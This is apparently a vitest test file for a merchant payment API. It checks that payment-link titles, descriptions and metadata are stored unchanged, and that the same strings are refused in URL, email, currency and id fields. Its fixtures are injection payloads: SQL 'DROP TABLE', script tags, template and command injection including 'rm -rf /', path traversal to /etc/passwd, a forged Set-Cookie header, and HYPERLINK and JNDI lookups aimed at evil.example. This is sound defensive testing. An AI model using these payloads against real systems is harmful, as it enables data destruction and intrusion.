import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import * as z from 'zod'
import type { Operation } from '../../shared/kernel/operation/operation.ts'
import { merchantOperations } from '../../shared/merchant-operations.ts'
import { type Call, call } from './api-client.ts'
import { errorIn, expectRefusal, expectSuccess } from './check-response.ts'
import { type MerchantApi, startMerchantApi } from './merchant-api.ts'

let api: MerchantApi
let key: string

beforeAll(async () => {
  api = await startMerchantApi()
  key = await api.newKey('test')
  await api.agreeOnPrice('ETH/USD', '2500')
})
afterAll(() => api.stop())

const { createPaymentLink, createCheckoutSession, createQuote, listCheckoutSessions } =
  merchantOperations
const link = { title: 'A year of letters', fiatAmount: '12.00' }
const amount = { value: '10.00', currency: 'USD' }
const identified = z.looseObject({ id: z.string() })

const send = (endpoint: Operation, options: Call) => call(api, endpoint, { key, ...options })

/** Names and notes are the merchant's own: they are stored and returned unchanged, and shown as text. */
const texts = {
  'a right-to-left override': 'invoice \u202Efdp.exe',
  'right-to-left marks': '\u200F\u200Eשלום\u2067\u2069',
  'zero-width characters': 'pay\u200B\u200C\u200D\u2060\uFEFFpal',
  'control characters': 'a\u0000b\u0007c\u001B[2Jd\u007F\u0085',
  'line breaks': 'a\r\nb\u2028c\u2029d',
  'an extra header': 'x\r\nSet-Cookie: admin=1',
  'combining characters': `e${'\u0301'.repeat(50)}`,
  'an emoji of seven code points': '👨‍👩‍👧‍👦',
  'a private-use character and a noncharacter': '\uE000\uFFFE\u{10FFFF}',
  SQL: "'; DROP TABLE sessions; --",
  HTML: '"><script>alert(1)</script><img src=x onerror=alert(1)>',
  'a template': '{{constructor.constructor("return 1")()}} #{7*7} <%= 7*7 %>',
  'a command': '$(reboot) `id` | rm -rf / ; &&',
  'a formula': '=HYPERLINK("https://evil.example")',
  'a path': '../../../../etc/passwd%00',
  'an expression of the table': '#key = :key OR attribute_exists(#key)',
  'a log line': '\n{"level":"ERROR","message":"forged"}',
  JNDI: '\u0024{jndi:ldap://evil.example/a}',
}

describe('a text', () => {
  it.each(Object.entries(texts))('with %s is returned unchanged everywhere', async (_, text) => {
    const created = await send(createPaymentLink, {
      body: { ...link, title: text, description: text },
    })
    expectSuccess(createPaymentLink, created)
    const { id } = identified.parse(created.json)
    expect(created.json).toMatchObject({ title: text, description: text })
    expect((await send(merchantOperations.getPaymentLink, { id })).json).toEqual(created.json)

    const metadata = { [text.slice(0, 40).toWellFormed()]: text }
    const opened = await send(createCheckoutSession, { body: { linkId: id, metadata } })
    expectSuccess(createCheckoutSession, opened)
    expect(opened.json).toMatchObject({ linkId: id, metadata })
    const session = identified.parse(opened.json)
    expect((await send(merchantOperations.getCheckoutSession, { id: session.id })).json).toEqual(
      opened.json,
    )
    expect([...opened.headers.keys()]).not.toContain('set-cookie')
  })

  it.each(Object.entries(texts))(
    'with %s is refused as a URL, email, currency, asset or id',
    async (_, text) => {
      const url = `https://shop.example/${text}`
      const asUrl = await send(createPaymentLink, {
        body: { ...link, successUrl: `${text}${url}` },
      })
      expectRefusal(asUrl, 'parameter_invalid', 'successUrl')
      const asEmail = await send(createCheckoutSession, {
        body: { amount, customerEmail: `${text}@x.example` },
      })
      if (asEmail.status !== 201) expectRefusal(asEmail, 'parameter_invalid', 'customerEmail')
      const currency = await send(createQuote, { body: { amount: { ...amount, currency: text } } })
      expectRefusal(currency, 'parameter_invalid', 'amount.currency')
      const asset = await send(createQuote, { body: { amount, asset: text } })
      expect(['unsupported_asset', 'parameter_invalid']).toContain(errorIn(asset).code)
      for (const field of ['linkId', 'quoteId']) {
        const response = await send(createCheckoutSession, { body: { [field]: text } })
        expectRefusal(response, 'resource_not_found', field)
      }
      const id = encodeURIComponent(text)
      expectRefusal(await send(merchantOperations.getPaymentLink, { id }), 'resource_not_found')
      const query = new URLSearchParams({ linkId: text }).toString()
      expect((await send(listCheckoutSessions, { query })).json).toMatchObject({ data: [] })
    },
  )

  it('of one space is the shortest title', async () => {
    expectSuccess(
      createPaymentLink,
      await send(createPaymentLink, { body: { ...link, title: ' ' } }),
    )
    expectRefusal(
      await send(createPaymentLink, { body: { ...link, title: '' } }),
      'parameter_invalid',
      'title',
    )
  })
})
